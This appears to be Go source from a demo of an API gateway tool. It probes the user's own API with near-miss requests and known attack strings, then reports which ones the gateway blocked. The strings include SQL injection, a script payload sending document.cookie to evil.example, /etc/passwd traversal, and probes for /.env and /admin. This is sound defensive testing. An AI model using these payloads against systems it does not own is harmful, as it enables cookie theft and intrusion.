package main

import (
	"context"
	"net/http"
	"strconv"

	"github.com/crenel-project/crenel/demo/harbour"
	"github.com/crenel-project/crenel/internal/spec"
	"github.com/crenel-project/crenel/internal/spec/call"
	"github.com/crenel-project/crenel/internal/value"
)

// missesOfOne bounds how many near misses one operation is sent.
const missesOfOne = 3

// attackTexts are put where the document declares a free text.
var attackTexts = []struct{ name, text string }{
	{"SQL injection", "1' OR '1'='1' UNION SELECT name FROM sqlite_master --"},
	{"script injection", "<script>fetch('https://evil.example/?'+document.cookie)</script>"},
	{"path traversal", "../../../../etc/passwd"},
}

// attempt is one attack on the visitor's API.
type attempt struct {
	way       string
	request   *call.Request
	anonymous bool
}

// nearMisses sends what the document does not allow: through the gateway, and
// where it only reads also straight. What reached the API is told.
func (v *visit) nearMisses(ctx context.Context) error {
	v.section("Attacks, since the API is yours",
		"  What the document does not allow, and known attack texts where it allows any text. Reads are sent",
		"  straight as well; writes only through the gateway.")
	attempts := v.attempts()
	stopped, reached := map[string]int{}, 0
	rows := [][]cell{{{"attack", v.dim}, {"operation", v.dim}, {"straight", v.dim}, {"through", v.dim}, {"", nil}}}
	for _, a := range attempts[:min(len(attempts), mostCalls)] {
		straight := "not sent"
		if a.request.Method == http.MethodGet {
			s, err := v.send(ctx, v.straight, v.target, a.request, a.anonymous)
			if err != nil {
				return err
			}
			straight = strconv.Itoa(s.status)
		}
		through, err := v.send(ctx, v.gateway.client, v.gateway.url(), a.request, a.anonymous)
		if err != nil {
			return err
		}
		rec, err := record(v.gateway.events(), through.event)
		if err != nil {
			return err
		}
		result := cell{through.code, v.green}
		if rec.Completion.Called {
			reached++
			result = cell{"reached the API", v.yellow}
		} else {
			stopped[through.code]++
		}
		rows = append(rows, []cell{
			plainCell(printable(a.way, 46)), plainCell(printable(a.request.Method+" "+a.request.Path, 46)),
			plainCell(straight), plainCell(strconv.Itoa(through.status)), result,
		})
	}
	v.table(rows)
	v.linef("")
	v.linef("  %d attacks: %d stopped before the API (%s), %d reached it.", len(rows)-1, len(rows)-1-reached, counts(stopped), reached)
	return nil
}

// attempts are the attacks: those on paths that do not exist, then one on each
// operation, a second on each, and so on, so that all get their share.
func (v *visit) attempts() []attempt {
	var out []attempt
	for _, path := range []string{"/debug/config", "/admin", "/.env", "/v0/users"} {
		if v.doc.Route(http.MethodGet, "", path).PathKnown {
			continue
		}
		out = append(out, attempt{"a path that the document lacks", &call.Request{Method: http.MethodGet, Path: path, Header: http.Header{}}, false})
	}
	var each [][]attempt
	most := 0
	for _, op := range v.doc.Operations {
		if op.Unroutable == "" {
			each = append(each, v.ofOne(op))
			most = max(most, len(each[len(each)-1]))
		}
	}
	for n := range most {
		for _, some := range each {
			if n < len(some) {
				out = append(out, some[n])
			}
		}
	}
	return out
}

// ofOne makes the attacks on one operation.
func (v *visit) ofOne(op *spec.Operation) []attempt {
	misses := v.missesOf(op)
	if op.Method != http.MethodGet {
		return misses
	}
	var out []attempt
	for _, p := range op.Parameters {
		if p.In != "query" {
			continue
		}
		for _, text := range attackTexts {
			values := v.values(op)
			values["query."+p.Name] = value.Value{Kind: value.String, Text: text.text}
			r, err := call.New(v.doc, op, v.rng, call.Options{Examples: true, Optional: -1, Values: values})
			if err == nil { // else the document does not allow the text: a near miss says so
				out = append(out, attempt{text.name + " in " + p.Name, r, false})
			}
		}
	}
	if op.SecurityDeclared && !op.Public {
		r, err := call.New(v.doc, op, v.rng, call.Options{Examples: true, Optional: -1, Values: v.values(op)})
		if err == nil {
			out = append(out, attempt{"without credentials", r, true})
		}
	}
	return append(out, misses...)
}

// missesOf are a few requests that break the document in one way each.
func (v *visit) missesOf(op *spec.Operation) []attempt {
	var out []attempt
	misses, err := call.NearMisses(v.doc, op, v.rng, call.Options{Examples: true, Values: v.values(op)})
	if err == nil && len(misses) > 0 {
		v.rng.Shuffle(len(misses), func(i, j int) { misses[i], misses[j] = misses[j], misses[i] })
		for _, m := range misses[:min(len(misses), missesOfOne)] {
			out = append(out, attempt{m.Fault.Where + " " + m.Fault.Name + m.Fault.Pointer + ": " + m.Fault.Keyword, m.Request, false})
		}
	}
	return out
}

func exchangeOf(status int, body string) harbour.Exchange {
	return harbour.Exchange{Status: status, Body: body}
}
